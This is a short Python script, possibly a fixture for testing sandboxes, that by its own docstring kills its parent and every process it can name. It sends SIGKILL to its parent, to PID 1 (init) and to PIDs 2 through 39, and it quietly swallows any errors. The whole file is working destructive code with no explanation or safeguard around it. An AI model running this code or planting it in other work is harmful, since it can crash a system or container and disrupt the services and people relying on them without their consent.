"""Kills its parent and every process it can name."""

import contextlib
import os
import signal

for pid in (os.getppid(), 1, *range(2, 40)):
    if pid != os.getpid():
        with contextlib.suppress(OSError):
            os.kill(pid, signal.SIGKILL)
